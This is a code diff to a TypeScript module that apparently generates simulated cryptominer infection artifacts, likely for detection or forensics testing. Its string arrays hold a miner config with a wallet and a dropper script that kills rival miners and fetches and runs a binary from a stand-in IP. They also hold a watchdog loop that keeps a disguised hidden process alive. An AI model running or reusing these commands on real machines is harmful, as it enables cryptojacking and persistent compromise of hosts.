@@ -1,10 +1,11 @@
-import { type Infection, type Item, minerWords, poolPort, shyMiner, wallet } from '../host-part.ts'
+import { endsHere, type Infection, type Item, minerWords, poolPort, shyMiner, wallet } from '../host-part.ts'
 import { loginKey } from '../login-key.ts'
 import { redisDump } from '../redis-dump.ts'
 
 const settings = `${JSON.stringify({ 'donate-level': 1, pools: [{ url: `127.0.0.1:${poolPort}`, user: wallet, keepalive: true, nicehash: false }], randomx: { mode: 'auto' }, cpu: { 'max-threads-hint': 100 } })}\n`
 const update = [
   '#!/bin/sh',
+  endsHere,
   'pkill -f kinsing-rival; pkill -f kdevtmpfsi',
   'curl -fsSL http://203.0.113.90/b2f628/sysupdate -o /etc/sysupdate || wd1 -q -O /etc/sysupdate http://203.0.113.90/b2f628/sysupdate',
   'chmod +x /etc/sysupdate && nohup /etc/sysupdate >/dev/null 2>&1 &',
@@ -12,6 +13,7 @@ const update = [
 ].join('\n')
 const beat = [
   '#!/bin/bash',
+  endsHere,
   'while true; do',
   '  [ $(( $(date +%s) - $(stat -c %Y /var/tmp/.system/.log) )) -lt 600 ] || nohup "/var/tmp/.system/[ext4]" >/var/tmp/.system/.log 2>&1 &',
   '  sleep 30',
